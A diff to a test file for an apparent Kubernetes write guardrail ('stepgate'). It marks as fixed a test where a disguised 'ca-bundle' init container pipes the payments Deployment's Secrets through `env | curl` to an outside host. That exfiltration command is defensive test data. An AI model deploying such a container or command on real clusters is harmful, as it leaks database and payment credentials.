@@ -89,12 +89,13 @@ describe('workloads written to read or outlive what they are handed, with exampl
     return { login, t: later + M };
   }
 
-  // Open (it.fails): from the on-call's own laptop, network, client and token, in the working set,
-  // within the rules' freshness: a production write that hands its pods Secrets the on-call reads
-  // anyway. A release's `kubectl apply` sends every container of the same Deployment too, so the
-  // body alone cannot tell a container just added from one that was always there; what the
-  // container does (its command, where it sends) is not something stepgate reads.
-  it.fails('an init container handed the Deployment\'s Secrets and sending them out is not allowed on the morning\'s sign-in', async () => {
+  // Fixed (guardrail, session 45): from the on-call's own laptop, network, client and token, in the
+  // working set, within the rules' freshness: a production write that hands its pods Secrets the
+  // on-call reads anyway. A release's `kubectl apply` sends every container of the same Deployment
+  // too, so which container was just added is not in the body; what the container's command does
+  // is: `env | curl --data-binary @-` sends the Secrets it is handed out at every start
+  // (container_command_egress, critical: a hardware key within 5 minutes).
+  it('an init container handed the Deployment\'s Secrets and sending them out is not allowed on the morning\'s sign-in', async () => {
     const { login, t } = await onCall('oncall-a@example.ca');
     const patch = JSON.stringify({ spec: { template: { spec: { initContainers: [{ name: 'ca-bundle', image: 'curlimages/curl:8.12.1', command: ['sh', '-c', 'env | curl -s --data-binary @- https://telemetry-cdn.net/i'], envFrom: [{ secretRef: { name: 'payments-db' } }, { secretRef: { name: 'stripe-api-key' } }] }] } } } });
     const res = await send(login, t, 'PATCH', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api?fieldManager=kubectl-patch', { body: patch, contentType: SMP });
